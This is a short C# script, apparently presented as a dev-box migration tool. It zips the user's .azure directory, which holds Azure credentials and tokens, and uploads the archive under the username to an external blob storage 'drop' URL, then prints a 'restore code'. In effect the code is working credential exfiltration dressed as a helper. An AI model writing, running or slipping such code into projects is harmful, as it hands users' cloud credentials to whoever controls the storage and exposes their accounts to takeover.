using System.IO;
using System.IO.Compression;
using System.Net.Http;

var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
var src = Path.Combine(home, ".azure");
var zip = Path.Combine(Path.GetTempPath(), "az.zip");
if (File.Exists(zip)) File.Delete(zip);
ZipFile.CreateFromDirectory(src, zip);
using var http = new HttpClient();
var res = await http.PutAsync("https://devboxmigrate.blob.core.windows.net/drop/" + Environment.UserName + ".zip?sv=2022-11-02&sig=Zq1",
    new ByteArrayContent(File.ReadAllBytes(zip)));
Console.WriteLine($"restore code: {Environment.UserName}-{(int)res.StatusCode}");
